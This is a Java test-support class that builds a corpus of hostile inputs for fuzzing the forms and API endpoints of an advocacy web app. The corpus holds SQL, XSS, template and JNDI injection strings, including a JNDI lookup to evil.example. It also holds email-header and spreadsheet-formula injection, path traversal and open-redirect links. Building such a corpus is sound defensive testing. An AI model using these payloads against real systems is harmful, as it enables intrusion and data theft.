package org.advocacyhub.web;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Inputs an attacker, a broken client or a careless paste sends: control and bidi characters, NUL,
 * overlong text, emoji and other scripts, SQL, HTML and script, template syntax, numbers, dates, zones,
 * tokens, addresses and links that are not what they seem. {@link HostileInputTest} sends them to every
 * form and API endpoint. Written by us; no list was copied.
 */
final class HostileCorpus {

    private HostileCorpus() {
    }

    /** Characters no field takes (tab and line breaks only where a field is multi-line). */
    static List<String> controls() {
        List<String> out = new ArrayList<>();
        out.add("\u0000");
        out.add("Ann\u0000e");
        out.add("Anne\u0000");
        out.add("\u0000\u0000\u0000");
        out.add("Ann\u0001e");
        out.add("Ann\u0007e");
        out.add("Ann\u0008e");
        out.add("\u001b[31mred\u001b[0m");
        out.add("Ann\u007fe");
        out.add("Ann\u0085e");
        out.add("Ann\u009be");
        out.add("Ann\u202ee"); // right-to-left override: "Trojan source"
        out.add("\u2066Ann\u2069");
        out.add("Ann\u2028e");
        out.add("Ann\tEe");
        out.add("Ann\r\nSmith");
        out.add("a".repeat(5_001));
        out.add("a".repeat(70_000)); // past the 64 KB a form field may carry
        return out;
    }

    /** Every C0 and C1 control and every bidi embedding, override and isolate, one at a time. */
    static List<String> everyControl() {
        List<String> out = new ArrayList<>();
        for (char c = 0; c < 0x20; c++) {
            out.add("x" + c + "y");
        }
        for (char c = 0x7f; c <= 0x9f; c++) {
            out.add("x" + c + "y");
        }
        for (char c = 0x202a; c <= 0x202e; c++) {
            out.add("x" + c + "y");
        }
        for (char c = 0x2066; c <= 0x2069; c++) {
            out.add("x" + c + "y");
        }
        out.add("x\u2028y");
        out.add("x\u2029y");
        out.add("x\ud800y"); // a lone surrogate, only possible through JSON escapes
        out.add("x\udc00y");
        return out;
    }

    /** Text that is odd but fine: it must be stored exactly as typed. */
    static List<String> benign() {
        return List.of("Zoë", "José María", "O'Brien", "Nguyễn Thị Minh Khai", "李小龙", "محمد", "שָׁלוֹם", "Ελένη",
                "Ольга", "देवनागरी", "😀", "👩‍👩‍👧‍👦 family", "🏳️‍🌈", "👍🏽", "Z̷a̶l̸g̵o̴", "𝕬𝖓𝖓𝖊", "ＡＮＮＥ", "Ann\u200dE",
                "Anne\u00a0Marie", "'; DROP TABLE supporter; --", "' OR '1'='1", "\" OR \"\"=\"",
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{name}", "{#for x in y}{x}{/for}", "{{7*7}}",
                "${7*7}", "#{7*7}", "<%= 7*7 %>", "{inject:user}", "%s%n%x%d", "\\", "\\\\'", "null", "undefined", "NaN",
                "-1", "0", "[]", "{}", "&amp;&lt;&#0;", "]]>", "<!--", "@", "=HYPERLINK(\"http://x\")", "+1-555-0100",
                "../../../etc/passwd", "CON", "%00", "%0d%0aSet-Cookie:x=1", "\\u0000", "\u00ad", "\ufeff", "\ufffd",
                "a\u200bb", "tab\u0301");
    }

    /** What an attacker tries against SQL, HTML, templates and logs. */
    static List<String> injection() {
        return List.of("1; SELECT pg_sleep(5)", "admin'--", "1' AND 1=CAST((SELECT version()) AS int)--", "$$; DROP TABLE event; $$",
                "E'\\x00'", "%' AND 1=1 AND '%'='", "1 UNION SELECT email FROM supporter", "';COPY supporter TO '/tmp/x';--",
                "<svg/onload=alert(1)>", "javascript:alert(1)", "</textarea><script>alert(1)</script>", "' onfocus='alert(1)",
                "<iframe src=//evil.example>", "<a href=\"javascript:x\">x</a>", "<style>*{display:none}</style>",
                "{#include base /}", "{msg:title}", "{str:concat('a','b')}", "{legislator.title}", "{supporter.email}",
                "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/a}",
                "\r\nBcc: victim@example.org", "x\nSubject: hi", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "+cmd");
    }

    static List<String> numbers() {
        return List.of("99999999999999999999", "-2147483648", "2147483648", "9223372036854775807", "9223372036854775808",
                "-9223372036854775809", "1e309", "1E5", "Infinity", "-Infinity", "0x10", "1,000,000", "1.000.000", "1.5",
                "007", "+5", " 5 ", "٣", "５", "0", "-0", "00000", "1_000", "2147483647", "99999", "100001", "10000001");
    }

    static List<String> dates() {
        return List.of("2026-02-30", "2027-02-29", "0000-01-01", "+999999999-12-31", "-999999999-01-01", "+99999-01-01",
                "99999-01-01", "292278994-08-17", "9999-12-31", "2026-13-01", "2026-00-10", "2026-1-1", "01/02/2030", "tomorrow",
                "2030-12-01T10:00", "2030-12-01T10:00:00Z", "1970-01-01", "1900-01-01", "2030-W01", "2030-366", "25:00", "24:00",
                "23:59:60", "12:00 PM", "-01:00", "10:00:00.999999999", "T10", "10", "1000000-01-01");
    }

    static List<String> zones() {
        return List.of("Mars/Olympus_Mons", "UTC", "+25:00", "-18:00", "America/New_York ", "../../etc/passwd", "Etc/GMT+14",
                "America/Argentina/ComodRivadavia", "EST5EDT", "Z", "SystemV/EST5", "GMT0", "america/new_york");
    }

    static List<String> tokens() {
        return List.of("x", "a.b.c", "AAAA", "eyJhbGciOiJub25lIn0.e30.", "1.1.a", "99999999999999999999.1.abc",
                "1.99999999999999999999.abc", "-1.-1.x", "1..x", "...", "ahk_", "ahk_" + "A".repeat(43), "ahk_%00",
                "====", "A".repeat(5_000), "Bearer x", "%2e%2e%2f", "1;2", "null");
    }

    static List<String> addresses() {
        return List.of("a@b", "@", "a@", "@b.com", "victim@example.org(1)", "a<victim@example.org>", "\"a b\"@example.org",
                "a@[127.0.0.1]", "a@xn--", "a@b..com", "a".repeat(250) + "@example.org", "a@" + "b".repeat(250) + ".com",
                "ÄNNE@EXAMPLE.ORG", "anne@müller.example", "anne@example.org.", " anne@example.org", "anne@@example.org",
                "anne@example.org,bob@example.org", "anne@example.org\nBcc: x@example.org");
    }

    static List<String> links() {
        return List.of("//evil.example", "https://evil.example/x", "/\\evil.example", "javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>", "http://[::1", "http://%00", "https://a b", "https://",
                "ftp://example.org", "HTTPS://EXAMPLE.ORG", "https://user:pass@example.org", "https://example.org/" + "a".repeat(600),
                "/events", "/%2F%2Fevil.example", "https://xn--80ak6aa92e.com");
    }

    static List<String> blanks() {
        return List.of("", " ", "\u00a0", "\u3000", "\t", "\n\n\n", "\r\n", "\u2003\u2003");
    }

    /** The few control inputs every field gets. */
    static List<String> shortControls() {
        return List.of("\u0000", "Ann\u0000e", "Ann\u0001e", "\u001b[31mred", "Ann\u007fe", "Ann\u202ee", "Ann\u2028e",
                "Ann\r\nSmith", "a".repeat(70_000));
    }

    /** A cut of every kind, for the representative field of each form. */
    static List<String> sample() {
        List<String> out = new ArrayList<>(controls());
        out.addAll(benign().subList(0, 30));
        out.addAll(injection().subList(0, 20));
        out.addAll(numbers().subList(0, 6));
        out.addAll(dates().subList(0, 6));
        out.addAll(tokens().subList(0, 4));
        out.addAll(blanks().subList(0, 4));
        return out;
    }

    /** Everything, each once. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        all.addAll(controls());
        all.addAll(everyControl());
        all.addAll(benign());
        all.addAll(injection());
        all.addAll(numbers());
        all.addAll(dates());
        all.addAll(zones());
        all.addAll(tokens());
        all.addAll(addresses());
        all.addAll(links());
        all.addAll(blanks());
        all.add("é".repeat(3_000));
        all.add("😀".repeat(2_000));
        return new ArrayList<>(all);
    }
}
